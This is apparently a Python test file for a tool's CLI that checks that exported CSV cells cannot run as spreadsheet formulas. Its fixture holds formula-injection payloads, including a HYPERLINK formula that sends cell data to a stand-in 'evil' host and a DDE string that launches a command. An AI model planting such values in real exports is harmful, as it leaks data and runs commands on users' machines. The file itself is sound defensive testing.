"""No CSV that a command prints holds a cell which a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from loopmap.cli.running import run
from loopmap.interop.cells import read_number

EVIL = """title: =T
"=HYPERLINK(\\"http://evil/?\\"&A1,\\"click\\")" -> B : +
    by "=cmd|' /C calc'!A0": +
    by Q: -
B -> "=HYPERLINK(\\"http://evil/?\\"&A1,\\"click\\")" : - [route=@SUM(A1)]
loop "+1+1": B, "=HYPERLINK(\\"http://evil/?\\"&A1,\\"click\\")"
"""


@pytest.mark.parametrize(
    "words",
    [
        ("compare", "evil.loop", "--csv"),
        ("diff", "evil.loop", "plain.loop", "--csv"),
        ("diff", "plain.loop", "evil.loop", "--csv"),
        ("loops", "evil.loop", "--csv"),
        ("loops", "evil.loop", "--sort", "evidence", "--csv"),
        ("loops", "evil.loop", "--count", "--csv"),
        ("places", "--csv"),
    ],
    ids=" ".join,
)
def test_no_cell_is_a_formula(
    words: tuple[str, ...],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("evil.loop").write_text(EVIL, "utf-8")
    Path("plain.loop").write_text("A -> B : +", "utf-8")
    assert run(words) in (0, 1)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row if read_number(cell) is None]
    assert not [cell for cell in cells if cell[:1] in "=+-@" and len(cell) > 1]
    assert len({len(row) for row in rows}) == 1


def test_the_shared_case(shared: Path, capsys: pytest.CaptureFixture[str]) -> None:
    case = shared / "cases" / "hostile" / "csv_inject.loop"
    if not case.exists():
        pytest.skip(f"needs {case}")
    run(["compare", str(case), "--csv"])
    assert '\n"=' not in capsys.readouterr().out
